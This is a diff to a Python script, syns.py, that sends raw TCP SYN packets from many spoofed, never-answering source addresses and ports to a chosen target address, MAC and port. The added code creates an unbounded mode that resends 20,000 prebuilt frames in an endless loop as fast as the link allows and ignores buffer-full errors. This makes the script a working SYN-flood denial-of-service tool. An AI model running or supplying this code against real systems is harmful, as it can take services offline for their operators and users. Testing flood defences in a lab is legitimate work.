@@ -1,4 +1,7 @@
-"""Sends SYNs from many addresses and ports that never answer: syns.py INTERFACE THEIR_ADDRESS THEIR_MAC PORT SEED COUNT."""
+"""Sends SYNs from many addresses and ports that never answer: syns.py INTERFACE THEIR_ADDRESS THEIR_MAC PORT SEED COUNT.
+
+COUNT 0: the same 20000 again and again, as fast as it can, until it is killed."""
+import errno
 import random
 import socket
 import struct
@@ -28,6 +31,16 @@ def syn():
 out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
 out.bind((interface, 0))
 ethernet = bytes.fromhex(mac.replace(":", "")) + bytes.fromhex("020000000099") + b"\x08\x00"
+if int(count) == 0:
+    frames = [ethernet + syn() for _ in range(20000)]
+    print("sending", flush=True)
+    while True:
+        for frame in frames:
+            try:
+                out.send(frame)
+            except OSError as error:
+                if error.errno != errno.ENOBUFS:  # the link's queue is full
+                    raise
 for _ in range(int(count)):
     out.send(ethernet + syn())
 print("sent", count)
